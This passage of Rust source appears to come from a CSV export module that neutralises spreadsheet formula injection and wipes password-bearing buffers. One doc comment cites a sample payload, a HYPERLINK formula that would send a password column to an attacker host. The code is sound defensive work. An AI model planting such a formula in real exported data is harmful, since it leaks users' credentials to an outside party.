}

/// The first characters that make a spreadsheet run a cell as a formula
/// (OWASP's list): `=`, `+`, `-`, `@`, a tab and a carriage return.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` made safe for a spreadsheet: one that starts with one of
/// [`FORMULA_STARTS`] (or with `'`s and then one of them) gets a `'` before
/// it, so it is shown as text and never run (`=HYPERLINK("http://attacker.example/?p="&D2,"Click")` would send
/// the password in column D away). The CSV writers quote such a cell too.
///
/// ```
/// use proget_users_core::csv::defuse;
/// assert_eq!(defuse("=1+2"), "'=1+2");
/// assert_eq!(defuse("-x"), "'-x");
/// assert_eq!(defuse("John"), "John");
/// ```
pub fn defuse(cell: &str) -> Cow<'_, str> {
    if runs(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether a spreadsheet would run `cell`, or would once a `'` before it
/// were taken off: a cell that starts with `'`s and then a formula gets one
/// more `'` too, so that reading takes off exactly the one it added.
fn runs(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// A cell as [`defuse`] found it: the `'` it adds is taken off again.
fn undefuse(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if runs(rest) => rest,
        _ => cell,
    }
}

/// A CSV being written: a header as given, then rows of cells with CRLF
/// line ends. Each cell is [defused](defuse), and quoted (by `csv-core`,
/// which doubles the quotes inside) when it was defused or holds a `,`,
/// `;`, quote, tab or line break, or starts or ends with a space: a
/// spreadsheet whose list separator is `;` does not split it either. The
/// buffer is sized up front for the worst case (every character a quote),
/// so it never grows and leaves no copy of a cell (a password) behind in
/// freed memory; should it have to grow, the old buffer is wiped.
pub(crate) struct Sheet {
    out: Vec<u8>,
    len: usize,
}

impl Sheet {
    /// A sheet of `columns` columns under `header` (written as it is), for
    /// rows whose cells hold `row_sizes` bytes together.
    pub(crate) fn new(
        header: &str,
        row_sizes: impl Iterator<Item = usize>,
        columns: usize,
    ) -> Self {
        // A cell is at most 2 quotes, a `'` and twice its bytes; then the
        // separators and the line end.
        let rows: usize = row_sizes.map(|n| 2 * n + 4 * columns + 2).sum();
        let mut sheet = Sheet {
            out: vec![0; header.len() + 2 + rows],
            len: 0,
        };
        sheet.put(header.as_bytes());
        sheet.put(b"\r\n");
        sheet
    }

    /// Appends one row.
    pub(crate) fn row(&mut self, cells: &[&str]) {
        for (i, cell) in cells.iter().enumerate() {
            if i > 0 {
                self.put(b",");
            }
            let mut cell = defuse(cell);
            let quote = matches!(cell, Cow::Owned(_))
                || cell.contains([',', ';', '"', '\r', '\n', '\t'])
                || cell.starts_with(' ')
                || cell.ends_with(' ');
            if quote {
                self.put(b"\"");
                let mut input = cell.as_bytes();
                loop {
                    let (result, read, wrote) =
                        ::csv_core::quote(input, &mut self.out[self.len..], b'"', b'\\', true);
                    self.len += wrote;
                    input = &input[read..];
                    match result {
                        ::csv_core::WriteResult::InputEmpty => break,
                        ::csv_core::WriteResult::OutputFull => self.grow(),
                    }
                }
                self.put(b"\"");
            } else {
                self.put(cell.as_bytes());
            }
            if let Cow::Owned(copy) = &mut cell {
                copy.zeroize();
            }
        }
        self.put(b"\r\n");
    }

    /// Appends bytes as they are, growing the buffer if it must.
    fn put(&mut self, bytes: &[u8]) {
        while self.out.len() - self.len < bytes.len() {
            self.grow();
        }
        self.out[self.len..self.len + bytes.len()].copy_from_slice(bytes);
        self.len += bytes.len();
    }

    /// Doubles the buffer, wiping the old one.
    fn grow(&mut self) {
        let mut bigger = vec![0; self.out.len() * 2 + 64];
        bigger[..self.len].copy_from_slice(&self.out[..self.len]);
        let mut old = std::mem::replace(&mut self.out, bigger);
        old.zeroize();
    }

    /// The text written.
    pub(crate) fn finish(mut self) -> String {
        self.out.truncate(self.len);
        let out = std::mem::take(&mut self.out);
        match String::from_utf8(out) {
            Ok(text) => text,
            // Cells are text and the rest ASCII, so this is not reached.
            Err(e) => {
                let mut bytes = e.into_bytes();
                let text = String::from_utf8_lossy(&bytes).into_owned();
                bytes.zeroize();
                text
            }
        }
    }
}

impl Drop for Sheet {
    fn drop(&mut self) {
        self.out.zeroize();
    }
}
